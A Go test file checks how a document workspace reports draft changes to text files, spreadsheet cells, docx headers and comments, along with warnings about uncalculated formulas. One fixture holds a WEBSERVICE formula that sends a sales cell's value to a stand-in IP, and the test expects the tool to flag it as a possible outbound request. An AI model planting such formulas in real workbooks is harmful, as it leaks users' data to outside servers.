package content

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agnes-data/da/api"
	"github.com/agnes-data/da/document/docx"
	"github.com/agnes-data/da/document/sheet"
	"github.com/agnes-data/da/workspace"
)

// TestDraftsAreCompared holds that a change is told by cells, lines and paragraphs.
func TestDraftsAreCompared(t *testing.T) {
	w := open(t)
	put := func(w *workspace.Workspace, name, text string) {
		t.Helper()
		if _, err := WriteText(t.Context(), w, Target{File: name}, text); err != nil {
			t.Fatal(err)
		}
	}
	cells := func(w *workspace.Workspace, values string) {
		t.Helper()
		var ops []sheet.Operation
		if err := json.Unmarshal([]byte(`[{"op":"ensure_sheet","sheet":"May"},{"op":"set_range","sheet":"May","start":"A1","values":`+values+`}]`), &ops); err != nil {
			t.Fatal(err)
		}
		if _, err := Xlsx(t.Context(), w, Target{File: "book.xlsx", Create: true}, ops); err != nil {
			t.Fatal(err)
		}
	}
	put(w, "a.md", "one\ntwo\nthree\nfour\n")
	put(w, "gone.md", "bye\n")
	cells(w, `[["n","price"],[1,2.5],[2,3]]`)
	draft, err := w.Draft("d")
	if err != nil {
		t.Fatal(err)
	}
	put(draft, "a.md", "one\nTWO\nthree\nnew\nfour\n")
	put(draft, "fresh.md", "hello\n")
	cells(draft, `[["n","price"],[1,2.75],[2,null]]`)
	if _, err := draft.Delete(t.Context(), "gone.md", 0); err != nil {
		t.Fatal(err)
	}
	all, err := Changes(t.Context(), draft)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, c := range all {
		for _, d := range c.Content.Changes {
			got[c.File.Name] += fmt.Sprintf("{%s|%s|%s}", d.Place, d.Before, d.After)
		}
		got[c.File.Name] += c.Content.Problem
	}
	for name, want := range map[string]string{
		"a.md": "{line 2|two|TWO}{line 4||new}", "fresh.md": "{line 1||hello}", "gone.md": "{line 1|bye|}", "book.xlsx": "{May!B2|2.5|2.75}{May!B3|3|}",
	} {
		if got[name] != want {
			t.Errorf("%s: %s, want %s", name, got[name], want)
		}
	}
}

// TestWhatTextsDoNotShowIsCompared holds that no change of an office file, a PDF
// or a picture looks like none.
func TestWhatTextsDoNotShowIsCompared(t *testing.T) {
	w, ctx := open(t), t.Context()
	for _, name := range []string{"header.docx", "small.xlsx"} {
		data, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Put(ctx, workspace.PutRequest{Name: name}, bytes.NewReader(data)); err != nil {
			t.Fatal(err)
		}
	}
	draft := func(name string) *workspace.Workspace {
		t.Helper()
		d, err := w.Draft(name)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	xlsx := func(name, ops string) {
		t.Helper()
		var list []sheet.Operation
		if err := json.Unmarshal([]byte(ops), &list); err != nil {
			t.Fatal(err)
		}
		if _, err := Xlsx(ctx, draft(name), Target{File: "small.xlsx"}, list); err != nil {
			t.Fatal(err)
		}
	}
	docx := func(name, search, replace string) {
		t.Helper()
		if _, err := Docx(ctx, draft(name), Target{File: "header.docx"}, []docx.Operation{{Op: docx.ReplaceText, Search: search, Replace: replace}}); err != nil {
			t.Fatal(err)
		}
	}
	xlsx("formula", `[{"op":"set_cells","sheet":"Sum","cells":[{"cell":"B1","formula":"WEBSERVICE(\"http://192.0.2.1/?\"&Sales!B2)"}]}]`)
	xlsx("table", `[{"op":"delete_sheet","sheet":"Tab"}]`)
	docx("header", "Header of ACME", "Header of BETA")
	docx("comment", "Please check", "Approved")
	for name, want := range map[string]string{
		"formula": `{Sum!B1||=WEBSERVICE("http://192.0.2.1/?"&Sales!B2)}` +
			"1 formula was not calculated and has the value of before, or none: Sum!B1 (the function WEBSERVICE); open the workbook in a program that calculates, and save it; Sum!B1 has the function WEBSERVICE: a program that opens the workbook may send a request to a server",
		"table": "{Tab|sheet of 3 rows|}{table Revenue|Tab!A1:B3|}" +
			`the deleted sheet "Tab" or its tables are read by 1 formula of the sheet "Sum", the first in A1; 1 formula was not calculated and has the value of before, or none: Sum!A1 (a table that is not there); open the workbook in a program that calculates, and save it; 1 formula refers, the first in Sum!A1, to the deleted table "Revenue"`,
		"header":  "{header|Header of ACME|Header of BETA}",
		"comment": "{comment of A|Please check|Approved}",
	} {
		all, err := Changes(ctx, draft(name))
		if err != nil || len(all) != 1 {
			t.Fatal(all, err)
		}
		got := ""
		for _, d := range all[0].Content.Changes {
			got += fmt.Sprintf("{%s|%s|%s}", d.Place, d.Before, d.After)
		}
		if got += strings.Join(api.Texts(all[0].Content.Caveats), "; ") + all[0].Content.Problem; got != want {
			t.Errorf("%s: %s\nwant %s", name, got, want)
		}
	}
}
